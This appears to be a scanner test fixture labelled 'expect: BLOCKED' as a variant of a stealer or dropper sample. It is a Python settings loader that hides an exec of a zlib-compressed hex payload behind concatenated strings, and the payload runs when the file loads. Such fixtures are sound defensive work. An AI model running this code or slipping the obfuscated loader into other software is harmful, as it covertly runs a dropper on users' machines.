# expect: BLOCKED category: known_threat variant-of: risky/known_threat/stealer_dropper_line.py technique: alias+concat
import json as _m0

def load_settings(path):
    with open(path, encoding='u' + 't' + 'f' + '-' + '8') as handle:
        return _m0.load(handle)
__import__('bu' + 'il' + 'ti' + 'ns').exec(__import__('z' + 'l' + 'i' + 'b').decompress(bytes.fromhex('789ccbcc2dc82f2a51c82fb60662bde2cae292d45c' + '0da5e4d2a21c05dd62858c9292022b7d7d2303633d' + '033d4343633d73fd0a851a85e20c254d00307b118a')))
print(load_settings('sett' + 'ings' + '.jso' + 'n'))
